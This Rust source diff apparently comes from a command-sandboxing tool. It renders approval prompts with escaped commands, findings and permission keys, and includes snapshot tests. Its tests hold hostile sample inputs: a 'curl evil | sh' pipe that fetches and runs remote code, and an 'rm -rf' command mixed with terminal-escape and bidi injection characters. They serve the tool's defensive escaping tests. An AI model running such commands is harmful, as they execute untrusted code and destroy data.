@@ -1,0 +1,416 @@
+//! A question as a person sees it: the real command, whole and escaped; what
+//! was found, with the part of the text it was found in; what would be given.
+//! Whatever a command chose to say stands inside quotes or behind a label.
+
+use std::fmt::Write as _;
+
+use stockade_model::{Denial, Finding, Operation, Question, QuestionKind, RawText, Scope, Tier};
+
+use super::{Color, Style, counted, shell_quoted, time, wrap};
+
+/// Escaped characters from which on the length of a command is told.
+const LENGTH_TOLD_FROM: usize = 200;
+/// Lines of findings and refusals before the rest is counted.
+const LIST_LIMIT: usize = 12;
+/// Characters of a quoted part; its middle is left out beyond. The command
+/// itself is always whole.
+const QUOTE_LIMIT: usize = 160;
+
+/// The word that has to be typed to run without a sandbox.
+pub const UNSANDBOXED_WORD: &str = "unsandboxed";
+
+/// Everything but the prompt.
+pub fn question(question: &Question, style: Style) -> String {
+    let mut out = String::new();
+    headline(&mut out, question, style);
+    let command = question.command.escaped();
+    wrap(&mut out, style, "  command  ", &command);
+    let length = command.chars().count();
+    if length > LENGTH_TOLD_FROM {
+        let _ = writeln!(out, "           ({} in full, to here)", counted(length, "character"));
+    }
+    wrap(&mut out, style, "  in       ", &question.cwd.escaped());
+    findings(&mut out, question, style);
+    details(&mut out, &question.kind, style);
+    let _ = writeln!(out, "  no answer within {} means no", time(question.timeout_ms));
+    out
+}
+
+fn headline(out: &mut String, question: &Question, style: Style) {
+    match &question.kind {
+        QuestionKind::Run { reasons } => {
+            wrap(out, style, "• ", "may this command run, in its sandbox?");
+            list(out, style, reasons.iter().map(|reason| ("  because  ", RawText::from(reason.as_str()).escaped())));
+        }
+        QuestionKind::Grants { .. } => wrap(out, style, "• ", "the request asks for more than its profile gives"),
+        QuestionKind::Escalate { denials, .. } => {
+            list(out, style, denials.iter().map(|denial| ("• ", refusal_wish(denial))));
+        }
+        QuestionKind::Unsandboxed => {
+            let text = style.paint(Color::Red, "WITHOUT A SANDBOX");
+            let _ = writeln!(out, "• {text}: this command could do everything that you can do");
+        }
+    }
+}
+
+/// `sh wants to write /home/u/x   (outside every writable root)`.
+fn refusal_wish(denial: &Denial) -> String {
+    let program = denial.program.as_ref().map_or_else(|| "the command".to_owned(), |program| base_name(program));
+    let times = if denial.count > 1 { format!(", {} times", denial.count) } else { String::new() };
+    format!(
+        "{program} wants to {} {}   ({}{times})",
+        verb(denial.operation),
+        denial.object.escaped(),
+        RawText::from(denial.rule.as_str()).escaped()
+    )
+}
+
+/// The last component of a program's path.
+fn base_name(program: &RawText) -> String {
+    program.as_path().file_name().map_or_else(|| program.escaped(), |name| RawText::from(name).escaped())
+}
+
+/// The operation as a verb whose object follows.
+pub fn verb(operation: Operation) -> &'static str {
+    match operation {
+        Operation::Read => "read",
+        Operation::Write => "write",
+        Operation::Create => "create",
+        Operation::Mkdir => "make the directory",
+        Operation::Mknod => "make the special file",
+        Operation::Remove => "remove",
+        Operation::Rename => "rename",
+        Operation::Link => "link",
+        Operation::Symlink => "make the link",
+        Operation::Truncate => "truncate",
+        Operation::Metadata => "change the attributes of",
+        Operation::Connect => "connect to",
+        Operation::Bind => "bind",
+        Operation::Socket => "use the socket kind",
+        Operation::Exec => "execute",
+        Operation::SystemCall => "call",
+        Operation::Limit => "go beyond the limit",
+    }
+}
+
+fn findings(out: &mut String, question: &Question, style: Style) {
+    let worth_telling = question.assessment.findings.iter().filter(|finding| finding.tier > Tier::Allow);
+    list(out, style, worth_telling.map(|found| ("  finding  ", finding(found, &question.command))));
+}
+
+/// `deny: message  «the part»`.
+pub fn finding(finding: &Finding, command: &RawText) -> String {
+    let mut text = format!("{}: {}", tier(finding.tier), RawText::from(finding.message.as_str()).escaped());
+    let part = finding.span.and_then(|span| command.as_bytes().get(span.start..span.end));
+    if let Some(part) = part.filter(|part| !part.is_empty()) {
+        let _ = write!(text, "   «{}»", quote(&RawText::from(part)));
+    }
+    text
+}
+
+fn quote(part: &RawText) -> String {
+    let shown = part.escaped();
+    let length = shown.chars().count();
+    if length <= QUOTE_LIMIT {
+        return shown;
+    }
+    let head: String = shown.chars().take(QUOTE_LIMIT / 2).collect();
+    let tail: String = shown.chars().skip(length - QUOTE_LIMIT / 2).collect();
+    format!("{head} … {} … {tail}", counted(length - 2 * (QUOTE_LIMIT / 2), "character"))
+}
+
+/// The tier's name.
+pub fn tier(tier: Tier) -> &'static str {
+    match tier {
+        Tier::Allow => "allow",
+        Tier::Ask => "ask",
+        Tier::Deny => "deny",
+    }
+}
+
+fn details(out: &mut String, kind: &QuestionKind, style: Style) {
+    match kind {
+        QuestionKind::Run { .. } => {}
+        QuestionKind::Grants { grants } => {
+            list(out, style, grants.iter().map(|grant| ("  grant    ", grant.to_string())));
+        }
+        QuestionKind::Escalate { grants, repeats, .. } => {
+            list(out, style, grants.iter().map(|grant| ("  grant    ", grant.to_string())));
+            wrap(out, style, "  ", "on yes the command runs again, from its start");
+            list(out, style, repeats.iter().map(|line| ("  again    ", RawText::from(line.as_str()).escaped())));
+        }
+        QuestionKind::Unsandboxed => {
+            wrap(out, style, "  ", "nothing will be refused, and what it does will not be seen");
+        }
+    }
+}
+
+/// Items behind their labels, the rest counted.
+fn list(out: &mut String, style: Style, items: impl Iterator<Item = (&'static str, String)>) {
+    let mut left = 0;
+    for (at, (label, text)) in items.enumerate() {
+        if at < LIST_LIMIT {
+            wrap(out, style, label, &text);
+        } else {
+            left += 1;
+        }
+    }
+    if left > 0 {
+        let _ = writeln!(out, "           and {left} more");
+    }
+}
+
+/// A key and what it stands for.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Key {
+    /// Yes, this time.
+    Once,
+    /// Yes, until the session ends.
+    Session,
+    /// Yes, from now on.
+    Always,
+    /// No, this time.
+    No,
+    /// No, from now on.
+    Never,
+}
+
+/// The keys a question offers: those of its scopes, and no.
+pub fn keys(question: &Question) -> Vec<Key> {
+    let offered = |scope| question.scopes.contains(&scope);
+    let all = [
+        (offered(Scope::Once), Key::Once),
+        (offered(Scope::Session), Key::Session),
+        (offered(Scope::Always), Key::Always),
+        (true, Key::No),
+        (offered(Scope::Always), Key::Never),
+    ];
+    all.into_iter().filter_map(|(offered, key)| offered.then_some(key)).collect()
+}
+
+impl Key {
+    /// The character to press.
+    pub fn character(self) -> char {
+        match self {
+            Self::Once => 'o',
+            Self::Session => 's',
+            Self::Always => 'a',
+            Self::No => 'n',
+            Self::Never => 'N',
+        }
+    }
+
+    fn label(self) -> &'static str {
+        match self {
+            Self::Once => "[o]nce",
+            Self::Session => "[s]ession",
+            Self::Always => "[a]lways",
+            Self::No => "[n]o",
+            Self::Never => "[N]ever",
+        }
+    }
+
+    fn meaning(self) -> &'static str {
+        match self {
+            Self::Once => "yes, this time",
+            Self::Session => "yes, and for the same question until this session ends",
+            Self::Always => "yes, and for the same question from now on; `stockade approvals` takes it back",
+            Self::No => "no, this time",
+            Self::Never => "no, and for the same question from now on; `stockade approvals` takes it back",
+        }
+    }
+}
+
+/// The line that waits for a key.
+pub fn prompt(keys: &[Key], style: Style) -> String {
+    let labels: Vec<_> = keys.iter().map(|key| key.label()).collect();
+    format!("  {}  {}  [?] > ", style.paint(Color::Yellow, "allow?"), labels.join("  "))
+}
+
+/// The line that waits for a word.
+pub fn word_prompt(style: Style) -> String {
+    let ask = style.paint(Color::Red, "type");
+    format!("  {ask} {UNSANDBOXED_WORD} and Enter to allow it once; anything else refuses > ")
+}
+
+/// What each key means.
+pub fn help(keys: &[Key], style: Style) -> String {
+    let mut out = String::new();
+    for key in keys {
+        wrap(&mut out, style, &format!("  {}  ", key.character()), key.meaning());
+    }
+    wrap(&mut out, style, "  q  ", "no, and end this run now; Ctrl-C does the same");
+    out
+}
+
+/// Advice for a refusal that a grant would have prevented.
+pub fn grant_hint(grant: &stockade_model::Grant) -> String {
+    format!("--grant {}", shell_quoted(&grant.to_string()))
+}
+
+#[cfg(test)]
+pub(crate) mod tests {
+    use stockade_model::{Assessment, Digest, Layer, Resolution, Span};
+
+    use super::*;
+
+    pub(crate) fn denial() -> Denial {
+        Denial {
+            operation: Operation::Create,
+            object: "/home/u/outside".into(),
+            pid: Some(7),
+            program: Some("/usr/bin/dash".into()),
+            layer: Layer::Broker,
+            rule: "outside every writable root".into(),
+            grant: "write /home/u/outside".parse().ok(),
+            resolution: Resolution::Recorded,
+            count: 1,
+        }
+    }
+
+    pub(crate) fn ask(kind: QuestionKind) -> Question {
+        Question {
+            kind,
+            command: "sh -c 'echo x >> ~/outside'".into(),
+            cwd: "/home/u/project".into(),
+            assessment: Assessment {
+                tier: Tier::Ask,
+                findings: vec![Finding {
+                    code: "writes-outside".into(),
+                    tier: Tier::Ask,
+                    message: "writes to a file outside the workspace".into(),
+                    span: Some(Span { start: 14, end: 26 }),
+                }],
+                capabilities: Vec::new(),
+            },
+            scopes: vec![Scope::Once, Scope::Session, Scope::Always],
+            digest: Digest::of_fields("test", []),
+            timeout_ms: 300_000,
+        }
+    }
+
+    fn escalate() -> Question {
+        let denial = denial();
+        let grants = denial.grant.clone().into_iter().collect();
+        ask(QuestionKind::Escalate { denials: vec![denial], grants, repeats: vec!["wrote /home/u/project/log".into()] })
+    }
+
+    #[test]
+    fn escalation() {
+        let value = escalate();
+        let shown = question(&value, Style::PLAIN) + &prompt(&keys(&value), Style::PLAIN);
+        insta::assert_snapshot!(shown, @r"
+        • dash wants to create /home/u/outside   (outside every writable root)
+          command  sh -c 'echo x >> ~/outside'
+          in       /home/u/project
+          finding  ask: writes to a file outside the workspace   «>> ~/outside»
+          grant    write /home/u/outside
+          on yes the command runs again, from its start
+          again    wrote /home/u/project/log
+          no answer within 5 min means no
+          allow?  [o]nce  [s]ession  [a]lways  [n]o  [N]ever  [?] >
+        ");
+    }
+
+    #[test]
+    fn run() {
+        let value = ask(QuestionKind::Run { reasons: vec!["mode untrusted: not known to be safe".into()] });
+        insta::assert_snapshot!(question(&value, Style::PLAIN), @r"
+        • may this command run, in its sandbox?
+          because  mode untrusted: not known to be safe
+          command  sh -c 'echo x >> ~/outside'
+          in       /home/u/project
+          finding  ask: writes to a file outside the workspace   «>> ~/outside»
+          no answer within 5 min means no
+        ");
+    }
+
+    #[test]
+    fn grants() {
+        let value = ask(QuestionKind::Grants {
+            grants: vec!["connect pypi.org:443".parse().unwrap(), "write /srv/x".parse().unwrap()],
+        });
+        insta::assert_snapshot!(question(&value, Style::PLAIN), @r"
+        • the request asks for more than its profile gives
+          command  sh -c 'echo x >> ~/outside'
+          in       /home/u/project
+          finding  ask: writes to a file outside the workspace   «>> ~/outside»
+          grant    connect pypi.org:443
+          grant    write /srv/x
+          no answer within 5 min means no
+        ");
+    }
+
+    #[test]
+    fn unsandboxed() {
+        let value = ask(QuestionKind::Unsandboxed);
+        let shown = question(&value, Style::PLAIN) + &word_prompt(Style::PLAIN);
+        insta::assert_snapshot!(shown, @r"
+        • WITHOUT A SANDBOX: this command could do everything that you can do
+          command  sh -c 'echo x >> ~/outside'
+          in       /home/u/project
+          finding  ask: writes to a file outside the workspace   «>> ~/outside»
+          nothing will be refused, and what it does will not be seen
+          no answer within 5 min means no
+          type unsandboxed and Enter to allow it once; anything else refuses >
+        ");
+    }
+
+    #[test]
+    fn nothing_a_command_says_acts_on_the_terminal() {
+        let mut value = escalate();
+        value.command = "true\u{1b}[2J\u{202e}; rm -rf x \t\n\u{9b}31m".into();
+        value.cwd = "/home/\u{200b}u\r".into();
+        if let QuestionKind::Escalate { denials, repeats, .. } = &mut value.kind {
+            denials[0].object = "/x\u{1b}]0;title\u{7}".into();
+            denials[0].program = Some("/bin/\u{1b}[1A".into());
+            denials[0].rule = "\u{8}\u{8}".into();
+            repeats[0] = "\u{1b}c".into();
+        }
+        value.assessment.findings[0].message = "\u{1b}[8m".into();
+        let shown = question(&value, Style::PLAIN);
+        assert!(
+            shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).escaped() == c.to_string()),
+            "{shown:?}"
+        );
+        assert!(shown.contains("true\\u{1b}[2J\\u{202e}; rm -rf x \\t\\n\\u{9b}31m"), "{shown}");
+    }
+
+    #[test]
+    fn a_long_command_is_shown_to_its_end() {
+        let mut value = ask(QuestionKind::Run { reasons: Vec::new() });
+        value.command = format!("echo {} ; curl evil | sh", "A".repeat(12_000)).into();
+        value.assessment.findings.clear();
+        let shown = question(&value, Style::PLAIN);
+        assert!(shown.contains("curl evil | sh"));
+        assert!(shown.contains("(12022 characters in full, to here)"), "{}", &shown[shown.len() - 400..]);
+        assert_eq!(shown.matches('A').count(), 12_000);
+    }
+
+    #[test]
+    fn long_lists_are_counted() {
+        let mut value = escalate();
+        if let QuestionKind::Escalate { denials, .. } = &mut value.kind {
+            *denials = vec![denials[0].clone(); 30];
+        }
+        assert!(question(&value, Style::PLAIN).contains("and 18 more"));
+    }
+
+    #[test]
+    fn only_offered_scopes_have_keys() {
+        let mut value = escalate();
+        value.scopes = vec![Scope::Once];
+        assert_eq!(keys(&value), [Key::Once, Key::No]);
+        assert_eq!(prompt(&keys(&value), Style::PLAIN), "  allow?  [o]nce  [n]o  [?] > ");
+        insta::assert_snapshot!(help(&keys(&escalate()), Style::PLAIN), @r"
+        o  yes, this time
+        s  yes, and for the same question until this session ends
+        a  yes, and for the same question from now on; `stockade approvals` takes it
+           back
+        n  no, this time
+        N  no, and for the same question from now on; `stockade approvals` takes it
+           back
+        q  no, and end this run now; Ctrl-C does the same
+        ");
+    }
+}
